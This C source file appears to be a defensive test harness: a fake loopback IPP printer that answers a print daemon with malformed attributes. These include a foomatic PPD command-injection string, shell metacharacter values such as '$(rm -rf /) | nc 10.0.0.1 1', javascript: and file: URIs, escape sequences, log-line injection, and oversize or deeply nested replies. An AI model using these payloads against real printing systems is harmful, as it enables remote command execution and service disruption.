// hostile-printer: a fake IPP printer on loopback whose every reply is an attack on its client.
// Licensed under the Apache License, Version 2.0.
//
//   hostile-printer PORT MODE [DOCDIR]
//
// Listens on 127.0.0.1:PORT only (HTTP/1.1, keep-alive, one forked process per connection) and
// answers IPP requests with bytes it encodes itself, so that it can send what libcups' encoder
// never would: values of 32 KiB, embedded NUL bytes, C0/C1 controls, invalid UTF-8, wrong value
// tags, inverted ranges, negative resolutions, duplicate attributes, a second printer group.
// MODE:
//   hostile   a reply that decodes (every value <= 32767 bytes) but carries every attack in
//             the brief; jobs are accepted (Create-Job, Send-Document, Print-Job) and reported
//             completed with absurd counters. A job whose name contains "reject" is refused
//             with a status-message that tries to inject a log line.
//   oversize  a value of 65535 bytes (libcups refuses values over 32767)
//   flood     5 MiB of valid attributes (over blattd's 4 MiB cap on a probe reply)
//   deep      collections nested 200 deep (blattd's framing allows 16)
//   junk      an IPP header followed by garbage
// Strings that must never survive validation carry the marker BLATTPWN; printable strings
// that are valid IPP text but look like shell or PPD syntax carry BLATTMETA (they may be kept
// as IPP values, never used as text anywhere). Each request is logged on stdout, and the
// documents of accepted jobs are written to DOCDIR/doc-PID-N.bin.
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAX_HEADER 16384
#define MAX_BODY (256u << 20)
#define IDLE_MS 30000

enum {
    T_OPERATION = 0x01,
    T_JOB = 0x02,
    T_END = 0x03,
    T_PRINTER = 0x04,
    T_UNSUPPORTED_VALUE = 0x10,
    T_NOVALUE = 0x13,
    T_INTEGER = 0x21,
    T_BOOLEAN = 0x22,
    T_ENUM = 0x23,
    T_STRING = 0x30,
    T_DATE = 0x31,
    T_RESOLUTION = 0x32,
    T_RANGE = 0x33,
    T_BEGIN_COL = 0x34,
    T_TEXTLANG = 0x35,
    T_END_COL = 0x37,
    T_TEXT = 0x41,
    T_NAME = 0x42,
    T_KEYWORD = 0x44,
    T_URI = 0x45,
    T_CHARSET = 0x47,
    T_LANGUAGE = 0x48,
    T_MIME = 0x49,
    T_MEMBER = 0x4a,
};

typedef struct buf {
    uint8_t *d;
    size_t len, cap;
} buf_t;

static const char *mode = "hostile";
static const char *docdir;

static void die(const char *what)
{
    fprintf(stderr, "hostile-printer: %s: %s\n", what, strerror(errno));
    exit(1);
}

static void put(buf_t *b, const void *p, size_t n)
{
    if (b->len + n > b->cap) {
        size_t cap = b->cap ? b->cap : 4096;
        while (cap < b->len + n)
            cap *= 2;
        uint8_t *d = realloc(b->d, cap);
        if (!d)
            die("realloc");
        b->d = d;
        b->cap = cap;
    }
    if (n)
        memcpy(b->d + b->len, p, n);
    b->len += n;
}

static void put8(buf_t *b, unsigned v)
{
    uint8_t c = (uint8_t)v;
    put(b, &c, 1);
}

static void put16(buf_t *b, unsigned v)
{
    put8(b, v >> 8);
    put8(b, v);
}

static void put32(buf_t *b, uint32_t v)
{
    put16(b, v >> 16);
    put16(b, v & 0xffff);
}

// One record: tag, name (NULL or "" = another value of the previous attribute), value.
static void rec(buf_t *b, unsigned tag, const char *name, const void *value, size_t vlen)
{
    size_t nlen = name ? strlen(name) : 0;
    put8(b, tag);
    put16(b, (unsigned)nlen);
    put(b, name, nlen);
    put16(b, (unsigned)vlen);
    put(b, value, vlen);
}

// A record whose value is a string literal that may hold NUL bytes.
#define LIT(b, tag, name, lit) rec(b, tag, name, lit, sizeof(lit) - 1)

static void str(buf_t *b, unsigned tag, const char *name, const char *s)
{
    rec(b, tag, name, s, strlen(s));
}

static void int32(buf_t *b, unsigned tag, const char *name, int32_t v)
{
    uint8_t x[4] = {(uint8_t)((uint32_t)v >> 24), (uint8_t)((uint32_t)v >> 16),
                    (uint8_t)((uint32_t)v >> 8), (uint8_t)v};
    rec(b, tag, name, x, 4);
}

static void range(buf_t *b, const char *name, int32_t lo, int32_t hi)
{
    buf_t v = {0};
    put32(&v, (uint32_t)lo);
    put32(&v, (uint32_t)hi);
    rec(b, T_RANGE, name, v.d, v.len);
    free(v.d);
}

static void resolution(buf_t *b, const char *name, int32_t x, int32_t y, unsigned units)
{
    buf_t v = {0};
    put32(&v, (uint32_t)x);
    put32(&v, (uint32_t)y);
    put8(&v, units);
    rec(b, T_RESOLUTION, name, v.d, v.len);
    free(v.d);
}

static void boolean(buf_t *b, const char *name, unsigned v)
{
    uint8_t c = (uint8_t)v;
    rec(b, T_BOOLEAN, name, &c, 1);
}

static void begin_col(buf_t *b, const char *name)
{
    rec(b, T_BEGIN_COL, name, NULL, 0);
}

static void end_col(buf_t *b)
{
    rec(b, T_END_COL, NULL, NULL, 0);
}

static void member(buf_t *b, const char *name)
{
    str(b, T_MEMBER, NULL, name);
}

// A string of n bytes: the marker, then filler.
static char *filler(size_t n, const char *marker)
{
    char *s = malloc(n + 1);
    if (!s)
        die("malloc");
    memset(s, 'A', n);
    memcpy(s, marker, strlen(marker) < n ? strlen(marker) : n);
    s[n] = '\0';
    return s;
}

static void header(buf_t *b, unsigned status, uint32_t request_id)
{
    put16(b, 0x0200);
    put16(b, status);
    put32(b, request_id);
    put8(b, T_OPERATION);
    str(b, T_CHARSET, "attributes-charset", "utf-8");
    str(b, T_LANGUAGE, "attributes-natural-language", "en");
}

// media-size collection member with two dimensions.
static void media_size(buf_t *b, const char *name, int32_t x, int32_t y)
{
    if (name)
        begin_col(b, name);
    else
        rec(b, T_BEGIN_COL, NULL, NULL, 0);
    member(b, "x-dimension");
    int32(b, T_INTEGER, NULL, x);
    member(b, "y-dimension");
    int32(b, T_INTEGER, NULL, y);
    end_col(b);
}

// One media-col value (name NULL: another value of the attribute).
static void media_col(buf_t *b, const char *name, const char *key, int32_t x, int32_t y,
                      int32_t margin)
{
    rec(b, T_BEGIN_COL, name, NULL, 0);
    member(b, "media-key");
    str(b, T_KEYWORD, NULL, key);
    member(b, "media-size");
    media_size(b, NULL, x, y);
    member(b, "media-size-name");
    str(b, T_KEYWORD, NULL, key);
    static const char *const edges[] = {"media-bottom-margin", "media-left-margin",
                                        "media-right-margin", "media-top-margin"};
    for (int i = 0; i < 4; i++) {
        member(b, edges[i]);
        int32(b, T_INTEGER, NULL, margin);
    }
    end_col(b);
}

// Identity and description: the 2024 cups-browsed/libppd payloads and their relatives.
static void hostile_identity(buf_t *b)
{
    // The PPD injection: newlines and quotes that became *FoomaticRIPCommandLine lines.
    str(b, T_TEXT, "printer-make-and-model",
        "BLATTPWN-MM HP\"\n*FoomaticRIPCommandLine: \"touch /tmp/BLATTPWN-foomatic\"\n"
        "*cupsFilter2 : \"application/pdf application/vnd.cups-postscript 0 foomatic-rip\"");
    // A duplicate: the first one counts, this one must not replace it.
    str(b, T_TEXT, "printer-make-and-model", "BLATTPWN-DUP Second Model");
    // Printable, valid text that looks like PPD and shell syntax: may stay an IPP value.
    str(b, T_TEXT, "printer-device-id",
        "MFG:Evil;MDL:*cupsFilter2: application/pdf 0 BLATTMETA-DID $(id);CMD:PDF,PWG;");
    // A 32767-byte string (the most libcups reads), and one just over blattd's limit.
    char *huge = filler(32767, "BLATTPWN-HUGE");
    str(b, T_TEXT, "printer-info", huge);
    free(huge);
    char *long1 = filler(1024, "BLATTPWN-LONG");
    str(b, T_TEXT, "printer-state-message", long1);
    free(long1);
    // An embedded NUL: what follows it must vanish.
    LIT(b, T_TEXT, "printer-location", "Room 1\0BLATTPWN-NUL");
    // Shell metacharacters and markup in valid text: kept as text, escaped when shown.
    str(b, T_TEXT, "printer-firmware-string-version",
        "BLATTMETA-FW `reboot`; $(rm -rf /) | nc 10.0.0.1 1 & <script>alert(1)</script>");
    // Controls, escapes, invalid UTF-8, C1, line separators, bidi overrides.
    static const char *const bad_text[] = {
        "BLATTPWN-ESC \x1b]0;owned\x07\x1b[2J",
        "BLATTPWN-CR line\rFAKE",
        "BLATTPWN-TAB a\tb",
        "BLATTPWN-DEL \x7f",
        "BLATTPWN-FF \xff\xfe",
        "BLATTPWN-OVERLONG \xc0\x80 \xc0\xaf",
        "BLATTPWN-C1 \xc2\x85 \xc2\x9b",
        "BLATTPWN-LS \xe2\x80\xa8 \xe2\x80\xa9",
        "BLATTPWN-SURROGATE \xed\xa0\x80",
        "BLATTPWN-BIDI \xe2\x80\xae evil",
        "BLATTPWN-ISOLATE \xe2\x81\xa6 evil",
        "BLATTPWN-QUOTE \"x\"",
        "BLATTPWN-BACKSLASH \\n",
    };
    str(b, T_TEXT, "printer-supply-description", "BLATTMETA-SUPPLY <b>black</b> & 'toner'");
    for (size_t i = 0; i < sizeof(bad_text) / sizeof(bad_text[0]); i++)
        str(b, T_TEXT, NULL, bad_text[i]);
    // textWithLanguage whose language is an attack: the text may stay, the language must go.
    buf_t tl = {0};
    const char *lang = "en\nBLATTPWN-LANG", *text = "Blatt hostile alert";
    put16(&tl, (unsigned)strlen(lang));
    put(&tl, lang, strlen(lang));
    put16(&tl, (unsigned)strlen(text));
    put(&tl, text, strlen(text));
    rec(b, T_TEXTLANG, "printer-alert-description", tl.d, tl.len);
    free(tl.d);
    // URIs: wrong schemes, quotes, spaces, controls.
    str(b, T_URI, "printer-more-info", "javascript:alert('BLATTPWN-JS')");
    str(b, T_URI, "printer-supply-info-uri", "file:///etc/BLATTPWN-FILE");
    str(b, T_URI, "printer-uuid", "urn:uuid:\"BLATTPWN-UUID\n");
    str(b, T_URI, "printer-geo-location", "geo:1,2;x=\"BLATTPWN-GEO\"");
    str(b, T_URI, "printer-icc-profiles-supported", "http://x/BLATTPWN-WRONGTAG");
    // Keywords that are not keywords.
    str(b, T_KEYWORD, "printer-kind", "document;BLATTPWN-KIND");
    str(b, T_KEYWORD, NULL, "BLATTPWN-UPPER");
    str(b, T_KEYWORD, NULL, "mailbox\nBLATTPWN-KWNL");
    str(b, T_KEYWORD, "ipp-versions-supported", "1.1");
    str(b, T_KEYWORD, NULL, "2.0");
    str(b, T_KEYWORD, "urf-supported", "V1.4");
    str(b, T_KEYWORD, NULL, "RS300-BLATTPWN\n");
    str(b, T_KEYWORD, NULL, "W8");
    // octetStrings with binary.
    LIT(b, T_STRING, "printer-supply", "type=toner;BLATTPWN-OCT\x01\x02;");
    str(b, T_STRING, NULL, "index=1;class=supplyThatIsConsumed;type=toner;unit=percent;level=50;");
    LIT(b, T_STRING, "printer-alert",
        "\x00\x01"
        "BLATTPWN-ALERT");
    // dateTime with month 13.
    LIT(b, T_DATE, "printer-current-time", "\x07\xe8\x0d\x20\x19\x3c\x3c\x0a+\x20\x50");
}

// Wrong value tags, out-of-range enums and absurd integers.
static void hostile_types(buf_t *b)
{
    int32(b, T_INTEGER, "printer-config-change-time", -1);
    int32(b, T_INTEGER, "printer-state", 3); // an integer where an enum belongs
    int32(b, T_ENUM, "printer-state", 99);   // and a duplicate
    str(b, T_KEYWORD, "color-supported", "BLATTPWN-BOOL");
    boolean(b, "page-ranges-supported", 2);
    str(b, T_TEXT, "operations-supported", "BLATTPWN-OPS");
    int32(b, T_INTEGER, "pages-per-minute", 2147483647);
    int32(b, T_INTEGER, "pages-per-minute-color", -2147483647 - 1);
    int32(b, T_INTEGER, "queued-job-count", -5);
    int32(b, T_ENUM, "print-quality-supported", 0);
    int32(b, T_ENUM, NULL, -1);
    int32(b, T_ENUM, NULL, 4);
    int32(b, T_ENUM, "print-quality-default", 2147483647);
    int32(b, T_ENUM, "orientation-requested-supported", 1000);
    int32(b, T_ENUM, NULL, 3);
    int32(b, T_ENUM, "finishings-supported", 0x7fffffff);
    int32(b, T_ENUM, NULL, 3);
    // copies: inverted, negative, absurd.
    range(b, "copies-supported", 1000, 1);
    int32(b, T_INTEGER, "copies-default", -5);
    // Resolutions: negative, zero, absurd units, one sane.
    resolution(b, "printer-resolution-supported", -300, -300, 3);
    resolution(b, NULL, 0, 0, 3);
    resolution(b, NULL, 600, 600, 99);
    resolution(b, NULL, 2147483647, 1, 3);
    resolution(b, NULL, 600, 600, 3);
    resolution(b, "printer-resolution-default", -600, 600, 3);
    resolution(b, "pwg-raster-document-resolution-supported", -300, -300, 3);
    resolution(b, NULL, 0, 300, 3);
    resolution(b, NULL, 300, 300, 3);
    str(b, T_KEYWORD, "pwg-raster-document-type-supported", "sgray_8");
    str(b, T_KEYWORD, NULL, "srgb_8");
    str(b, T_KEYWORD, NULL, "sgray_8;BLATTPWN-RTYPE");
    // Margins below zero.
    int32(b, T_INTEGER, "media-top-margin-supported", -423);
    int32(b, T_INTEGER, NULL, -2147483647 - 1);
    int32(b, T_INTEGER, NULL, 0);
    // Sides: a valid list, then a duplicate that must not be merged.
    str(b, T_KEYWORD, "sides-supported", "one-sided");
    str(b, T_KEYWORD, NULL, "two-sided-long-edge");
    str(b, T_KEYWORD, "sides-supported", "blattpwn-dup-sides");
}

// Formats and media: huge 1setOf counts, zero and negative sizes, names with shell text.
static void hostile_media(buf_t *b)
{
    str(b, T_MIME, "document-format-supported", "image/pwg-raster");
    str(b, T_MIME, NULL, "application/pdf; x=BLATTPWN-MIME");
    str(b, T_MIME, NULL, "text/plain\nBLATTPWN-MIMENL");
    str(b, T_MIME, NULL, "../../BLATTPWN-MIMEPATH");
    str(b, T_MIME, "document-format-supported", "application/x-blattpwn-dup");
    str(b, T_MIME, "document-format-default", "image/pwg-raster");
    // 20,000 keywords (kept: at most 1,000), then names with shell text.
    str(b, T_KEYWORD, "media-supported", "iso_a4_210x297mm");
    char kw[64];
    for (int i = 0; i < 20000; i++) {
        snprintf(kw, sizeof(kw), "custom_blattcount%05d_100x100mm", i);
        str(b, T_KEYWORD, NULL, kw);
    }
    str(b, T_NAME, "media-ready", "iso_a4_210x297mm");
    str(b, T_NAME, NULL, "BLATTMETA-MEDIA a4 $(reboot) ; touch /tmp/x");
    str(b, T_NAME, NULL, "BLATTPWN-MEDIANL a4\nmedia=letter");
    str(b, T_KEYWORD, "media-default", "iso_a4_210x297mm copies=999 BLATTPWN-MDEF");
    // media-col-database: 5,000 values (kept: 1,000); sizes 0, negative, absurd.
    media_col(b, "media-col-database", "iso_a4_210x297mm", 21000, 29700, 423);
    media_col(b, NULL, "badsize-zero", 0, 0, 0);
    media_col(b, NULL, "badsize-negative", -21000, -29700, -423);
    media_col(b, NULL, "badsize-huge", 2147483647, 2147483647, 2147483647);
    media_col(b, NULL, "BLATTPWN-KEY\n", 21000, 29700, 423);
    for (int i = 0; i < 5000; i++) {
        snprintf(kw, sizeof(kw), "custom_blattcount%05d_100x100mm", i);
        media_col(b, NULL, kw, 10000, 10000, 0);
    }
    media_size(b, "media-size-supported", 21000, 29700);
    media_size(b, NULL, 0, 29700);
    media_size(b, NULL, -1, -1);
    // A custom size range, inverted.
    rec(b, T_BEGIN_COL, NULL, NULL, 0);
    member(b, "x-dimension");
    buf_t r = {0};
    put32(&r, 50000);
    put32(&r, 100);
    rec(b, T_RANGE, NULL, r.d, r.len);
    free(r.d);
    member(b, "y-dimension");
    int32(b, T_INTEGER, NULL, 29700);
    end_col(b);
    // Members the sanitiser does not know, and a collection where a keyword belongs.
    media_col(b, "media-col-default", "iso_a4_210x297mm", 21000, 29700, 423);
    begin_col(b, "media-source-supported");
    member(b, "BLATTPWN-MEMBER\n");
    str(b, T_KEYWORD, NULL, "x");
    end_col(b);
}

static void printer_group(buf_t *b)
{
    put8(b, T_PRINTER);
    str(b, T_URI, "printer-uri-supported", "ipp://127.0.0.1/ipp/print");
    str(b, T_KEYWORD, "uri-security-supported", "none");
    str(b, T_KEYWORD, "printer-state-reasons", "none");
    str(b, T_KEYWORD, NULL, "media-empty-error\nBLATTPWN-PSR");
    int32(b, T_ENUM, "printer-state", 3);
    boolean(b, "printer-is-accepting-jobs", 1);
    boolean(b, "color-supported", 1);
    static const int ops[] = {0x0002, 0x0004, 0x0005, 0x0006, 0x0008, 0x0009, 0x000a, 0x000b};
    for (size_t i = 0; i < sizeof(ops) / sizeof(ops[0]); i++)
        int32(b, T_ENUM, i ? NULL : "operations-supported", ops[i]);
    str(b, T_KEYWORD, "print-color-mode-supported", "monochrome");
    str(b, T_KEYWORD, NULL, "color");
    hostile_identity(b);
    hostile_types(b);
    hostile_media(b);
    // An attribute name of 32767 bytes, and one with a newline.
    char *name = filler(32767, "BLATTPWN-NAME");
    for (size_t i = 0; name[i]; i++)
        name[i] = name[i] == 'A' ? 'a' : name[i];
    str(b, T_TEXT, name, "x");
    free(name);
    str(b, T_TEXT, "printer-info\nBLATTPWN-ATTRNAME", "x");
    // A second printer group with a conflicting value.
    put8(b, T_PRINTER);
    str(b, T_TEXT, "printer-make-and-model", "BLATTPWN-GROUP2");
    // Printer attributes in another group are not the printer's (libcups refuses a second
    // operation group, so an unsupported-attributes group it is).
    put8(b, 0x05);
    str(b, T_MIME, "document-format-supported", "application/x-blattpwn-othergroup");
}

static void reply_attributes(buf_t *b, uint32_t id)
{
    header(b, 0x0000, id);
    if (!strcmp(mode, "oversize")) {
        put8(b, T_PRINTER);
        str(b, T_MIME, "document-format-supported", "image/pwg-raster");
        char *s = filler(65535, "BLATTPWN-OVERSIZE");
        str(b, T_TEXT, "printer-make-and-model", s);
        free(s);
    } else if (!strcmp(mode, "flood")) {
        put8(b, T_PRINTER);
        str(b, T_MIME, "document-format-supported", "image/pwg-raster");
        char kw[64];
        for (int i = 0; i < 200000; i++) {
            snprintf(kw, sizeof(kw), "custom_blattflood%06d_100x100mm", i);
            str(b, T_KEYWORD, i ? NULL : "media-supported", kw);
        }
    } else if (!strcmp(mode, "deep")) {
        put8(b, T_PRINTER);
        str(b, T_MIME, "document-format-supported", "image/pwg-raster");
        begin_col(b, "media-col-database");
        for (int i = 0; i < 200; i++) {
            member(b, "media-size");
            rec(b, T_BEGIN_COL, NULL, NULL, 0);
        }
        for (int i = 0; i < 201; i++)
            end_col(b);
    } else if (!strcmp(mode, "junk")) {
        put8(b, T_PRINTER);
        for (unsigned i = 0; i < 4096; i++)
            put8(b, (i * 2654435761u) >> 24);
        return; // no end-of-attributes
    } else {
        printer_group(b);
    }
    put8(b, T_END);
}

// Job replies: the job is accepted and done at once, with absurd counters and hostile text.
static void reply_job(buf_t *b, unsigned op, uint32_t id)
{
    header(b, 0x0000, id);
    str(b, T_TEXT, "status-message", "BLATTPWN-OK\nFAKE-LOG-LINE: accepted");
    put8(b, T_JOB);
    int32(b, T_INTEGER, "job-id", 42);
    str(b, T_URI, "job-uri", "ipp://127.0.0.1/ipp/print/42\n\"BLATTPWN-JOBURI");
    int32(b, T_ENUM, "job-state", op == 0x0009 ? 9 : 5);
    str(b, T_KEYWORD, "job-state-reasons", "job-completed-successfully");
    str(b, T_KEYWORD, NULL, "BLATTPWN-JSR\njob-canceled-by-user");
    str(b, T_TEXT, "job-state-message", "BLATTPWN-JSM\r\n\x1b[2JFAKE-LOG-LINE");
    int32(b, T_INTEGER, "job-impressions-completed", 2147483647);
    int32(b, T_INTEGER, "job-media-sheets-completed", -7);
    begin_col(b, "job-impressions-completed-col");
    member(b, "monochrome");
    int32(b, T_INTEGER, NULL, 2147483647);
    member(b, "full-color");
    int32(b, T_INTEGER, NULL, 2147483647);
    end_col(b);
    put8(b, T_END);
}

static void reply_reject(buf_t *b, uint32_t id)
{
    header(b, 0x0404, id); // client-error-not-possible
    str(b, T_TEXT, "status-message",
        "BLATTSM refused\nFAKE-LOG-LINE: job 1 completed \x1b[31m\"quoted\" $(id) \\ end");
    put8(b, T_END);
}

typedef struct reader {
    int fd;
    uint8_t buf[65536];
    size_t start, end;
} reader_t;

// More bytes into the buffer; false at EOF, error or idle timeout.
static bool fill(reader_t *r)
{
    if (r->start == r->end)
        r->start = r->end = 0;
    if (r->end == sizeof(r->buf)) {
        memmove(r->buf, r->buf + r->start, r->end - r->start);
        r->end -= r->start;
        r->start = 0;
    }
    struct pollfd p = {r->fd, POLLIN, 0};
    if (poll(&p, 1, IDLE_MS) <= 0)
        return false;
    ssize_t n = read(r->fd, r->buf + r->end, sizeof(r->buf) - r->end);
    if (n <= 0)
        return false;
    r->end += (size_t)n;
    return true;
}

// One line without CR LF into out; false at EOF or when it is too long.
static bool read_line(reader_t *r, char *out, size_t len)
{
    size_t o = 0;
    for (;;) {
        while (r->start < r->end) {
            char c = (char)r->buf[r->start++];
            if (c == '\n') {
                if (o && out[o - 1] == '\r')
                    o--;
                out[o] = '\0';
                return true;
            }
            if (o + 1 >= len)
                return false;
            out[o++] = c;
        }
        if (!fill(r))
            return false;
    }
}

static bool read_exact(reader_t *r, buf_t *out, size_t n)
{
    while (n > 0) {
        if (r->start == r->end && !fill(r))
            return false;
        size_t k = r->end - r->start < n ? r->end - r->start : n;
        put(out, r->buf + r->start, k);
        r->start += k;
        n -= k;
    }
    return true;
}

static bool write_all(int fd, const void *p, size_t n)
{
    const uint8_t *b = p;
    while (n > 0) {
        ssize_t w = write(fd, b, n);
        if (w < 0 && errno == EINTR)
            continue;
        if (w <= 0)
            return false;
        b += w;
        n -= (size_t)w;
    }
    return true;
}

// The body of a request (Content-Length or chunked) into body.
static bool read_body(reader_t *r, bool chunked, size_t length, buf_t *body)
{
    if (!chunked)
        return length <= MAX_BODY && read_exact(r, body, length);
    char line[256];
    for (;;) {
        if (!read_line(r, line, sizeof(line)))
            return false;
        size_t n = strtoul(line, NULL, 16);
        if (n == 0)
            break;
        if (body->len + n > MAX_BODY || !read_exact(r, body, n) || !read_line(r, line, 4))
            return false;
    }
    while (read_line(r, line, sizeof(line)) && line[0]) // trailers
        ;
    return true;
}

// Finds the end of the attribute block and the value of one string attribute.
static size_t scan_request(const buf_t *body, const char *want, char *value, size_t vlen)
{
    size_t pos = 8;
    value[0] = '\0';
    while (pos < body->len) {
        uint8_t tag = body->d[pos];
        if (tag == T_END)
            return pos + 1;
        if (tag < 0x10) {
            pos++;
            continue;
        }
        if (pos + 3 > body->len)
            break;
        size_t nl = (size_t)body->d[pos + 1] << 8 | body->d[pos + 2];
        if (pos + 3 + nl + 2 > body->len)
            break;
        const uint8_t *name = body->d + pos + 3;
        size_t vp = pos + 3 + nl;
        size_t vl = (size_t)body->d[vp] << 8 | body->d[vp + 1];
        if (vp + 2 + vl > body->len)
            break;
        if (nl == strlen(want) && !memcmp(name, want, nl)) {
            size_t k = vl < vlen - 1 ? vl : vlen - 1;
            memcpy(value, body->d + vp + 2, k);
            value[k] = '\0';
        }
        pos = vp + 2 + vl;
    }
    return body->len;
}

static void save_document(const buf_t *body, size_t offset)
{
    static int count;
    if (!docdir || offset >= body->len)
        return;
    char path[4096];
    snprintf(path, sizeof(path), "%s/doc-%d-%d.bin", docdir, (int)getpid(), ++count);
    FILE *f = fopen(path, "wb");
    if (f) {
        fwrite(body->d + offset, 1, body->len - offset, f);
        fclose(f);
    }
}

// One HTTP request and its answer; false when the connection should close.
static bool serve_one(reader_t *r)
{
    char line[MAX_HEADER];
    if (!read_line(r, line, sizeof(line)))
        return false;
    bool post = !strncmp(line, "POST ", 5), chunked = false, expect = false, close_it = false;
    size_t length = 0, header_bytes = 0;
    for (;;) {
        char h[MAX_HEADER];
        if (!read_line(r, h, sizeof(h)) || (header_bytes += strlen(h)) > MAX_HEADER)
            return false;
        if (!h[0])
            break;
        if (!strncasecmp(h, "Content-Length:", 15))
            length = strtoul(h + 15, NULL, 10);
        else if (!strncasecmp(h, "Transfer-Encoding:", 18) && strcasestr(h, "chunked"))
            chunked = true;
        else if (!strncasecmp(h, "Expect:", 7) && strcasestr(h, "100-continue"))
            expect = true;
        else if (!strncasecmp(h, "Connection:", 11) && strcasestr(h, "close"))
            close_it = true;
    }
    if (!post) {
        const char *resp = "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n";
        return write_all(r->fd, resp, strlen(resp)) && !close_it;
    }
    if (expect && !write_all(r->fd, "HTTP/1.1 100 Continue\r\n\r\n", 25))
        return false;
    buf_t body = {0}, out = {0};
    if (!read_body(r, chunked, length, &body) || body.len < 8) {
        free(body.d);
        return false;
    }
    unsigned op = (unsigned)body.d[2] << 8 | body.d[3];
    uint32_t id = (uint32_t)body.d[4] << 24 | (uint32_t)body.d[5] << 16 | (uint32_t)body.d[6] << 8 |
                  body.d[7];
    char job_name[256];
    size_t doc = scan_request(&body, "job-name", job_name, sizeof(job_name));
    printf("request op=0x%04x id=%u bytes=%zu mode=%s\n", op, id, body.len, mode);
    fflush(stdout);
    if (op == 0x000b) {
        reply_attributes(&out, id);
    } else if ((op == 0x0002 || op == 0x0005) && strstr(job_name, "reject")) {
        reply_reject(&out, id);
    } else if (op == 0x0002 || op == 0x0005 || op == 0x0006 || op == 0x0009 || op == 0x0008) {
        if (op == 0x0002 || op == 0x0006)
            save_document(&body, doc);
        reply_job(&out, op, id);
    } else {
        header(&out, 0x0501, id); // server-error-operation-not-supported
        put8(&out, T_END);
    }
    char head[256];
    int hl = snprintf(head, sizeof(head),
                      "HTTP/1.1 200 OK\r\nContent-Type: application/ipp\r\n"
                      "Content-Length: %zu\r\n\r\n",
                      out.len);
    bool ok = write_all(r->fd, head, (size_t)hl) && write_all(r->fd, out.d, out.len);
    free(body.d);
    free(out.d);
    return ok && !close_it;
}

static void serve(int fd)
{
    reader_t *r = calloc(1, sizeof(*r));
    if (!r)
        exit(1);
    r->fd = fd;
    while (serve_one(r))
        ;
    close(fd);
    exit(0);
}

int main(int argc, char **argv)
{
    if (argc < 3 || argc > 4) {
        fprintf(stderr, "usage: hostile-printer PORT hostile|oversize|flood|deep|junk [DOCDIR]\n");
        return 2;
    }
    int port = atoi(argv[1]);
    mode = argv[2];
    docdir = argc == 4 ? argv[3] : NULL;
    signal(SIGCHLD, SIG_IGN);
    signal(SIGPIPE, SIG_IGN);
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int one = 1;
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) != 0 || listen(s, 16) != 0)
        die("listen");
    printf("listening on 127.0.0.1:%d mode %s\n", port, mode);
    fflush(stdout);
    for (;;) {
        int c = accept(s, NULL, NULL);
        if (c < 0) {
            if (errno == EINTR)
                continue;
            die("accept");
        }
        pid_t pid = fork();
        if (pid == 0) {
            close(s);
            serve(c);
        }
        close(c);
    }
}
